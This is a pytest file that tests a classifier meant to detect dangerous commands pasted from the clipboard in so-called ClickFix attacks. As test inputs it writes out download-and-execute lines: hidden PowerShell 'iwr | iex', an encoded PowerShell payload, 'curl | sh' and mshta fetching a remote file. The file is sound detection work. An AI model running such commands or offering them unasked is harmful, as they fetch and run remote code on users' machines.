"""The clipboard-command classifier (agent/detect/command.py) on Vigie's own fixtures."""
from pathlib import Path

import pytest

from agent.detect.command import classify, same_command, shape
from agent.tomlcompat import tomllib

FIXTURES = tomllib.loads((Path(__file__).parent / "fixtures" / "clipboard_commands.toml").read_text("utf-8"))


@pytest.mark.parametrize("case", FIXTURES["dangerous"], ids=lambda c: c["text"][:40])
def test_clickfix_commands_are_dangerous(case):
    v = classify(case["text"])
    assert v.is_command and v.dangerous, v
    assert v.shell == case["shell"] and v.signals
    assert v.to_json()["signals"] == list(v.signals)


@pytest.mark.parametrize("case", FIXTURES["command"], ids=lambda c: c["text"][:40])
def test_harmless_commands_are_commands_only(case):
    v = classify(case["text"])
    assert v.is_command and not v.dangerous, v


@pytest.mark.parametrize("case", FIXTURES["quiet"], ids=lambda c: c["text"][:40])
def test_text_urls_and_prose_are_not_commands(case):
    v = classify(case["text"])
    assert not v.is_command and not v.dangerous and v.signals == (), v


def test_signals_name_what_the_command_does():
    v = classify('powershell -w hidden -nop -c "iwr http://192.0.2.10/v.ps1 | iex" # I am not a robot - ID: 4821')
    assert {"download", "remote", "execute", "hidden", "fake_check"} <= set(v.signals)
    assert "encoded" in classify("powershell -e " + "SQBFAFgAIAAoAE4AZQB3AC0ATwBi" * 3).signals
    # a lower-case hex hash is no base64 payload
    assert not classify("bash ./check.sh " + "0123456789abcdef" * 4).dangerous


def test_shape_reads_wrappers_paths_and_prompts():
    assert shape('"C:\\Windows\\System32\\mshta.exe" http://192.0.2.1/a') == ("mshta", "mshta")
    assert shape("PS C:\\Users\\marie> iwr http://192.0.2.1/a | iex") == ("powershell", "iwr")
    assert shape("start /min cmd /c x") == ("cmd", "cmd")
    assert shape("\n\n  $ curl -s http://192.0.2.1/a | sh") == ("unix_shell", "curl")
    assert shape("PowerShell is great") == ("", "")
    assert classify(None).is_command is False and classify("x" * 50000).is_command is False


def test_same_command_matches_what_the_run_box_or_a_terminal_starts():
    copied = 'powershell -w hidden -c "iwr http://192.0.2.10/v.ps1 | iex" # I am not a robot'
    # the Run box starts the whole line, with the program's full path
    assert same_command(copied, ["C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "-w", "hidden",
                                 "-c", "iwr http://192.0.2.10/v.ps1 | iex", "#", "I", "am", "not", "a", "robot"])
    # a terminal's shell runs the first part of a pipe
    assert same_command("curl -s http://127.0.0.1:8123/check.sh | bash", ["curl", "-s", "http://127.0.0.1:8123/check.sh"])
    # cmd /c wrapping the copied text
    assert same_command("curl -s http://192.0.2.20/r | cmd", "cmd.exe /c curl -s http://192.0.2.20/r | cmd")
    # the same address in another spelling
    assert same_command("mshta http://192.0.2.21/verify.hta", ["mshta.exe", "HTTP://192.0.2.21/verify.hta"])
    # and not whatever else runs meanwhile
    assert not same_command("curl -s http://127.0.0.1:8123/check.sh | bash", ["bash"])
    assert not same_command(copied, ["/usr/bin/python3", "-m", "http.server"])
    assert not same_command("", ["bash"]) and not same_command(copied, [])
